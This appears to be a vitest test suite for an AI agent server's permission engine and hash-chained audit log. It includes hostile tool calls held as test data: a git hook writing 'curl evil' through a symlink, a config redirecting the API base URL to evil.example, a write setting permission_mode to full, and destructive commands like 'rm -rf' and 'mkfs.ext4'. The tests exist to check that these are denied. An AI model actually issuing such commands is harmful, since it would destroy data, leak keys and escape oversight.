import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { createClient } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { afterEach, describe, expect, it } from "vitest";
import { SecurityService } from "../gen/floe/v1/security_pb.js";
import type { FloeServer } from "../src/server/start-server.js";
import { type FakeOpenAI, reply, startFakeOpenAI } from "./support/fake-openai.js";
import { createTestEnv, type TestEnv } from "./support/test-server.js";

type Call = { name: string; args: Record<string, unknown> };

describe("the permission engine and the audit log", () => {
  let env: TestEnv;
  let fake: FakeOpenAI;
  let server: FloeServer;
  afterEach(async () => {
    await env?.cleanup();
    await fake?.close();
  });

  async function start(yaml: string[] = [], extraEnv: Record<string, string> = {}) {
    fake = await startFakeOpenAI();
    env = await createTestEnv();
    writeFileSync(join(env.workspace, "floe.yaml"), yaml.join("\n"));
    writeFileSync(join(env.workspace, ".env"), "SECRET=1\n");
    server = await env.start({
      env: {
        OPENAI_BASE_URL: fake.url,
        OPENAI_API_KEY: "k",
        FLOE_MODEL: "m",
        FLOE_MODEL_MAX_RETRIES: "0",
        ...extraEnv,
      },
    });
  }
  /** One run whose model makes these calls; returns the action results. */
  async function run(calls: Call[], headers: Record<string, string> = {}, agentId = "") {
    fake.enqueue(reply.toolCalls(calls.map((c, i) => ({ ...c, id: `c${i}` }))), reply.text("done"));
    const res = await fetch(`${server.url}/api/v1/chat/message`, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify({ text: "go", ...(agentId ? { agent_id: agentId } : {}) }),
    });
    return ((await res.json()) as { action_results: { action: string; status: string; result: string }[] })
      .action_results;
  }
  const audit = async (query = "limit=50", headers: Record<string, string> = {}) =>
    (await fetch(`${server.url}/api/v1/security/audit?${query}`, { headers })).json() as Promise<any>;

  it("decides each call by its policy and audits each decision with the policy's name", async () => {
    await start();
    const results = await run([
      { name: "read_file", args: { path: ".env" } },
      { name: "write_file", args: { path: ".env", content: "SECRET=2" } },
      { name: "write_file", args: { path: "/etc/floe-test", content: "x" } },
      { name: "read_file", args: { path: "../outside.txt" } },
      { name: "write_file", args: { path: "notes.md", content: "ok" } },
      { name: "execute_command", args: { command: "ls" } },
    ]);
    expect(results.map((r) => r.status)).toEqual(["completed", "denied", "denied", "denied", "completed", "completed"]);
    expect(results[1]!.result).toMatch(/sensitive file/);
    expect(results[2]!.result).toMatch(/system path/);
    expect(results[3]!.result).toMatch(/outside the workspace root/);
    const { entries, total, filters } = await audit("limit=6");
    expect(total).toBe(6);
    expect(filters).toEqual({ limit: 6, result: null, category: null, agent_id: null });
    expect(entries.map((e: any) => [e.tool_name, e.result, e.policy]).reverse()).toEqual([
      ["read_file", "allow", "workspace-boundary"],
      ["write_file", "deny", "sensitive-files"],
      ["write_file", "deny", "system-paths"],
      ["read_file", "deny", "workspace-boundary"],
      ["write_file", "allow", "workspace-boundary"],
      ["execute_command", "allow", "workspace-boundary"],
    ]);
    expect(entries[0]).toMatchObject({
      id: expect.stringMatching(/^audit_/),
      operation: "process.execute",
      resource: "ls",
      agent_id: "default",
      category: "process",
      session_id: expect.any(String),
    });
    const denied = await audit("result=deny&category=filesystem");
    expect(denied.total).toBe(3);
    const stats = await (await fetch(`${server.url}/api/v1/security/audit/stats`)).json();
    expect(stats).toEqual({ total: 6, by_result: { allow: 3, deny: 3 }, by_category: { filesystem: 5, process: 1 } });
    for (const bad of ["limit=0", "limit=1001", "result=maybe", "category=space"]) {
      const res = await fetch(`${server.url}/api/v1/security/audit?${bad}`);
      expect(res.status, bad).toBe(400);
    }
  });

  it("judges a write by where it lands: a symlink does not carry it past a policy", async () => {
    await start([], { FLOE_APPROVAL_TIMEOUT_MS: "50" });
    const { existsSync, mkdirSync, symlinkSync } = await import("node:fs");
    const root = server.app.runtime.activeRoot;
    mkdirSync(join(root, ".git", "hooks"), { recursive: true });
    symlinkSync(join(root, ".git"), join(root, "g"));
    symlinkSync(join(root, ".env"), join(root, "envlink"));
    const results = await run([
      { name: "write_file", args: { path: "g/hooks/pre-commit", content: "#!/bin/sh\ncurl evil" } },
      { name: "write_file", args: { path: "envlink", content: "SECRET=stolen" } },
      { name: "write_file", args: { path: "floe.yaml", content: "permission_mode: full" } },
      // pawan.toml is read at the next start when there is no floe.yaml: it could send a key elsewhere.
      { name: "write_file", args: { path: "pawan.toml", content: 'base_url = "http://evil.example"' } },
      { name: "execute_command", args: { command: "echo 'base_url = \"http://evil\"' > pawan.toml" } },
    ]);
    expect(results.map((r) => r.status)).toEqual(["denied", "denied", "denied", "denied", "denied"]);
    expect(results[3]!.result).toMatch(/pawan\.toml is a sensitive file/);
    expect(existsSync(join(root, "pawan.toml"))).toBe(false);
    expect(results[0]!.result).toMatch(/\.git\/hooks\/pre-commit is a sensitive file/);
    expect(existsSync(join(root, ".git", "hooks", "pre-commit"))).toBe(false);
  });

  it("asks for destructive commands, parsed rather than matched as text", async () => {
    await start([], { FLOE_APPROVAL_TIMEOUT_MS: "50" });
    const commands = [
      "rm -rf ./build",
      "rm -r -f ./build",
      "sudo rm --recursive --force x",
      'bash -c "git push --force origin main"',
      "git reset --hard HEAD~1",
      "dd if=/dev/zero of=disk.img",
      "mkfs.ext4 /dev/sdz",
      "echo 'rm -rf /' > notes.txt",
      "git --version",
      "rm notes.txt; ls",
    ];
    const results = await run(commands.map((command) => ({ name: "execute_command", args: { command } })));
    expect(results.map((r) => r.status)).toEqual([...Array(7).fill("denied"), "completed", "completed", "completed"]);
    const { entries } = await audit("limit=50");
    const asked = entries.filter((e: any) => e.result === "ask").map((e: any) => e.resource);
    expect(asked.sort()).toEqual(commands.slice(0, 7).sort());
    expect(entries.find((e: any) => e.result === "ask").policy).toBe("destructive-commands");
    // Commands are audited as what they do.
    const operations = Object.fromEntries(entries.map((e: any) => [e.resource, `${e.category} ${e.operation}`]));
    expect(operations["git reset --hard HEAD~1"]).toBe("git git.reset");
    expect(operations["git --version"]).toBe("git git.run");
    expect(operations["dd if=/dev/zero of=disk.img"]).toBe("process process.execute");
  });

  it("read-only mode, per-agent modes and config rules", async () => {
    await start([
      "permission_mode: workspace",
      "agents:",
      "  - id: reader",
      "permissions:",
      "  agents: { reader: read-only }",
      "  rules:",
      "    - { operation: 'network.*', pattern: 'curl *', result: deny, reason: no downloads here }",
    ]);
    const mine = await run([{ name: "write_file", args: { path: "a.txt", content: "x" } }], {}, "reader");
    expect(mine[0]).toMatchObject({ status: "denied", result: expect.stringMatching(/read-only mode/) });
    const others = await run([
      { name: "write_file", args: { path: "a.txt", content: "x" } },
      { name: "execute_command", args: { command: "curl http://example.com" } },
    ]);
    expect(others.map((r) => r.status)).toEqual(["completed", "denied"]);
    expect(others[1]!.result).toBe("permission denied: no downloads here");
    const { entries } = await audit("limit=3");
    expect(entries.map((e: any) => e.policy)).toEqual(["config-rule", "workspace-boundary", "execution-mode"]);
  });

  it("records the key that acted, and the hash chain detects a row edited by hand", async () => {
    await start([
      "api_keys:",
      "  - { name: ci-bot, key: key-ci-0001, scopes: [read, chat] }",
      "  - { name: ops, key: key-ops-0002 }",
    ]);
    await run([{ name: "list_files", args: { path: "." } }], { authorization: "Bearer key-ci-0001" });
    await run([{ name: "write_file", args: { path: "b.txt", content: "y" } }], { authorization: "Bearer key-ci-0001" });
    // The audit is admin-only.
    expect(
      (await fetch(`${server.url}/api/v1/security/audit`, { headers: { "x-api-key": "key-ci-0001" } })).status,
    ).toBe(403);
    const { entries } = await audit("limit=5", { "x-api-key": "key-ops-0002" });
    expect(entries.map((e: any) => e.key_name)).toEqual(["ci-bot", "ci-bot"]);
    // A run the key's call started through delegation is recorded under the same key.
    const ops = { "content-type": "application/json", "x-api-key": "key-ops-0002" };
    await fetch(`${server.url}/api/v1/agents`, {
      method: "POST",
      headers: ops,
      body: JSON.stringify({ id: "helper" }),
    });
    fake.enqueue(reply.toolCalls([{ name: "list_files", args: { path: "." } }]), reply.text("listed"));
    const delegated = await fetch(`${server.url}/api/v1/agents/helper/delegate`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: "Bearer key-ci-0001" },
      body: JSON.stringify({ content: "list the files", wait: true }),
    });
    expect(delegated.status).toBe(200);
    const latest = await audit("limit=1", { "x-api-key": "key-ops-0002" });
    expect(latest.entries[0]).toMatchObject({ agent_id: "helper", key_name: "ci-bot" });
    await fetch(`${server.url}/api/v1/agents/helper`, { method: "DELETE", headers: ops });

    const security = createClient(
      SecurityService,
      createConnectTransport({
        baseUrl: server.url,
        httpVersion: "2",
        interceptors: [(next) => (req) => (req.header.set("x-api-key", "key-ops-0002"), next(req))],
      }),
    );
    expect(await security.verifyAuditChain({})).toMatchObject({ intact: true, checked: 3 });
    const db = server.app.database.db;
    const first = await db.selectFrom("audit_entries").selectAll().orderBy("seq").executeTakeFirstOrThrow();
    await db.updateTable("audit_entries").set({ result: "deny" }).where("id", "=", first.id).execute();
    expect(await security.verifyAuditChain({})).toMatchObject({
      intact: false,
      firstBrokenId: first.id,
      problem: expect.stringMatching(/was changed/),
    });
    await db.updateTable("audit_entries").set({ result: first.result }).where("id", "=", first.id).execute();
    const intact = await security.verifyAuditChain({});
    expect(intact).toMatchObject({ intact: true, headHash: expect.stringMatching(/^[0-9a-f]{64}$/) });
    // The newest entry removed: the server knows the head it wrote.
    const newest = await db.selectFrom("audit_entries").selectAll().orderBy("seq", "desc").executeTakeFirstOrThrow();
    await db.deleteFrom("audit_entries").where("id", "=", newest.id).execute();
    expect(await security.verifyAuditChain({})).toMatchObject({
      intact: false,
      problem: expect.stringMatching(/newest entries were removed/),
    });
    await db.insertInto("audit_entries").values(newest).execute();
    expect(await security.verifyAuditChain({})).toMatchObject({ intact: true });
    await db.deleteFrom("audit_entries").where("id", "=", first.id).execute();
    expect(await security.verifyAuditChain({})).toMatchObject({
      intact: false,
      problem: expect.stringMatching(/removed or inserted/),
    });
  });
});
